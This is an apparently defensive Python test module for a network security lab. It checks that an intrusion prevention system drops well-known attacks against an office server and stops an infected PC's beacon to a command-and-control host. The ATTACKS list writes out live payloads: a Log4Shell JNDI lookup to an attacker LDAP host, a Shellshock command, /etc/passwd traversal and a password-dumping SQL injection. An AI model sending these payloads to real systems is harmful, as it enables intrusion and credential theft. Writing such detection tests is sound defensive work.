"""Attacks: well-known ones from the internet against an office server, and the beacon of an infected PC."""

from __future__ import annotations

import dataclasses
import secrets

from omamori_lab import addresses
from omamori_lab.addresses import ATTACKER, C2, PC2, SERVER
from omamori_lab.lab import Lab
from omamori_lab.listeners import ANSWER_BODY
from omamori_lab.office import Download
from omamori_lab.portal import Expected
from omamori_lab.results import Checklist

from .scene import BLOCKED_TIMEOUT_S, Title, check_alerts, together

_SCANNER_REQUESTS = 6
_BEACON = "/gate/checkin?bot=0badcafe1234"


@dataclasses.dataclass(frozen=True)
class Attack:
    """One request that must never reach the server.

    Attributes:
        name: For people.
        path: Of the URL.
        options: Of curl.
        rule: Regular expression for the rule that must catch it.
    """

    name: str
    path: str
    options: tuple[str, ...]
    rule: str


ATTACKS = (
    Attack("Log4Shell", "/login", ("-A", f"${{jndi:ldap://{ATTACKER.ipv4}:1389/a}}"), r"(?i)log4"),
    Attack("Shellshock", "/cgi-bin/status", ("-A", "() { :; }; /bin/ping -c 3 203.0.113.66"), r"(?i)shellshock"),
    Attack("path traversal", "/files/../../../../etc/passwd", (), r"(?i)traversal|passwd"),
    Attack(
        "SQL injection", "/item?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--", (), r"(?i)sql injection"
    ),
)
_SCANNER = Attack("scanner's burst", "/", ("-A", "sqlmap/1.8#stable (https://sqlmap.org)"), r"(?i)scan")


class IntrusionScene:
    """An attacker on the internet against the office's web server."""

    name = "ips"
    title = Title("社内サーバーへの攻撃を止める", "attacks against an office server are dropped")
    needs_shell = False

    def play(self, lab: Lab, checks: Checklist) -> None:
        """Attack with curl, then visit like anybody; only the visit may reach the server."""
        known = lab.known_alerts()
        attacker = lab.client("attacker")
        token = secrets.token_hex(6)

        def send(attack: Attack, mark: str) -> Download:
            return attacker.get(
                f"http://{SERVER.ipv4}{attack.path}",
                timeout_s=BLOCKED_TIMEOUT_S,
                options=[*attack.options, "-H", f"X-Lab: {mark}-{token}"],
            )

        marks = [attack.name.split()[0] for attack in ATTACKS]
        got = together(
            *(lambda a=attack, m=mark: send(a, m) for attack, mark in zip(ATTACKS, marks, strict=True)),
            *(lambda: send(_SCANNER, "scanner") for _ in range(_SCANNER_REQUESTS)),
        )
        server = lab.listeners.office_server
        for attack, mark, download in zip(ATTACKS, marks, got, strict=False):
            arrived = server.holding(f"{mark}-{token}".encode())
            checks.add(attack.name, expected="does not reach the server", seen=download, ok=not arrived)
        arrived = server.holding(f"scanner-{token}".encode())
        checks.equal(f"{_SCANNER.name}: requests that reached the server", 0, len(arrived))

        visit = attacker.get(f"http://{SERVER.ipv4}/", options=["-H", f"X-Lab: visit-{token}"])
        reached = bool(server.holding(f"visit-{token}".encode()))
        ordinary = visit.complete and visit.size == len(ANSWER_BODY) and reached
        checks.add("ordinary request", expected="passes", seen=visit, ok=ordinary)
        wanted = [
            Expected(
                function="ips", direction="in", terminal=SERVER, severity=1, rule=attack.rule, remote=ATTACKER.ipv4
            )
            for attack in (*ATTACKS, _SCANNER)
        ]
        check_alerts(lab, checks, wanted, known=known)


class BeaconScene:
    """A PC that is already infected calls its master."""

    name = "beacon"
    title = Title("感染端末の外部通信を止めて知らせる", "an infected PC's beacon is dropped")
    needs_shell = False

    def play(self, lab: Lab, checks: Checklist) -> None:
        """Look its master up by name, and check in by HTTP at its address; the master may hear nothing."""
        known = lab.known_alerts()
        pc = lab.client(PC2.name)
        asked, fetched = together(
            lambda: pc.resolve("c2.test", server=addresses.ROUTER_IPV4),
            lambda: pc.get(f"http://{C2.ipv4}{_BEACON}", timeout_s=BLOCKED_TIMEOUT_S, options=["-d", "state=idle"]),
        )
        checks.equal("DNS c2.test", None, asked)
        checks.add("HTTP check-in", expected="blocked", seen=fetched, ok=getattr(fetched, "status", 1) == 0)
        checks.equal("requests that reached the C2", 0, len(lab.listeners.c2.arrivals))
        wanted = [
            Expected(function="dangerous-site", direction="out", terminal=PC2, destination=r"c2\.test", severity=3),
            Expected(function="ips", direction="out", terminal=PC2, severity=3, rule=r"(?i)beacon", remote=C2.ipv4),
        ]
        check_alerts(lab, checks, wanted, known=known)
